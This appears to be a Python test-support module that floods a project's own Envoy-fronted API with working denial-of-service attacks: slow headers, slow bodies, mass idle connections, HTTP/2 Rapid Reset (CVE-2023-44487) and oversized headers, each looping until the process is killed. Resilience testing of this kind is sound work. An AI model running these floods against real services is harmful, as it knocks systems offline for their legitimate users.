"""Attacks on the front door, each as long as its process lives: `python -m tests.support.attacks`.

The arguments are the name of an attack, `host:port`, a website and a key. It prints a line when it
is in full force.
"""

import asyncio
import resource
import sys
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

import h2.connection
import h2.errors
from h2.exceptions import ProtocolError

_BODY_BYTES = 4_000_000
_HEADER_BYTES = 900_000


@dataclass(frozen=True)
class Target:
    """What is attacked, with the key of a caller who has one."""

    host: str
    port: int
    website: str
    key: str

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A connection."""
        return await asyncio.open_connection(self.host, self.port)

    def request(self, verb: str, path: str, *headers: str) -> bytes:
        """The first lines of a request over HTTP/1.1, without the end of its headers."""
        lines = [
            f"{verb} /api/websites/{self.website}/{path} HTTP/1.1",
            "Host: api",
            f"Authorization: Bearer {self.key}",
            *headers,
        ]
        return "\r\n".join(lines).encode() + b"\r\n"


async def slow_headers(target: Target) -> None:
    """One header a second, without an end."""
    _, writer = await target.connect()
    writer.write(target.request("GET", "sessions"))
    await _trickle(writer, b"X-More: 1\r\n")


async def slow_body(target: Target) -> None:
    """One byte a second of four megabytes."""
    _, writer = await target.connect()
    length = f"Content-Length: {_BODY_BYTES}"
    writer.write(target.request("POST", "events", "Content-Type: application/json", length))
    writer.write(b"\r\n" + b" " * 65_536)
    await _trickle(writer, b" ")


async def _trickle(writer: asyncio.StreamWriter, piece: bytes) -> None:
    while True:
        writer.write(piece)
        await writer.drain()
        await asyncio.sleep(1)


async def idle(target: Target) -> None:
    """A connection on which nothing happens."""
    reader, _ = await target.connect()
    await reader.read()


async def rapid_reset(target: Target) -> None:
    """Calls that are taken back at once, over HTTP/2 (CVE-2023-44487)."""
    reader, writer = await target.connect()
    http2 = h2.connection.H2Connection()
    http2.initiate_connection()
    headers = [
        (":method", "GET"),
        (":path", f"/api/websites/{target.website}/sessions"),
        (":scheme", "http"),
        (":authority", "api"),
        ("authorization", f"Bearer {target.key}"),
    ]
    while True:
        for _ in range(50):
            stream = http2.get_next_available_stream_id()
            http2.send_headers(stream, headers, end_stream=True)
            http2.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
        writer.write(http2.data_to_send())
        await writer.drain()
        if reader.at_eof():
            return
        # Not waited for: the attacker does not care what is answered.
        await asyncio.sleep(0)


async def large_headers(target: Target) -> None:
    """As many headers as Envoy reads before it refuses them."""
    reader, writer = await target.connect()
    value = "X-Large: " + "x" * _HEADER_BYTES
    while True:
        writer.write(target.request("GET", "sessions", value) + b"\r\n")
        await writer.drain()
        if not await reader.read(65_536):
            return


@dataclass(frozen=True)
class Attack:
    """What one connection does, and how many there are at once; one that ends is made anew."""

    run: Callable[[Target], Awaitable[None]]
    connections: int


ATTACKS = {
    "slow headers": Attack(slow_headers, 1_000),
    "slow bodies": Attack(slow_body, 1_000),
    "many connections": Attack(idle, 9_000),
    "rapid reset": Attack(rapid_reset, 20),
    "large headers": Attack(large_headers, 20),
}


async def attack(name: str, target: Target) -> None:
    """Attack until the process is ended."""
    chosen = ATTACKS[name]
    # Envoy is started with the same limit, and has connections of its own.
    connections = min(chosen.connections, resource.getrlimit(resource.RLIMIT_NOFILE)[0] // 4)
    made = 0

    async def keep_on() -> None:
        nonlocal made
        while True:
            made += 1
            try:
                await chosen.run(target)
            except (OSError, ProtocolError):
                await asyncio.sleep(0.05)

    tasks = []
    for _ in range(connections):
        tasks.append(asyncio.create_task(keep_on()))
        await asyncio.sleep(0)
    await asyncio.sleep(1)
    print(made, flush=True)
    await asyncio.gather(*tasks)


if __name__ == "__main__":
    name, address, website, key = sys.argv[1:]
    host, _, port = address.rpartition(":")
    asyncio.run(attack(name, Target(host, int(port), website, key)))
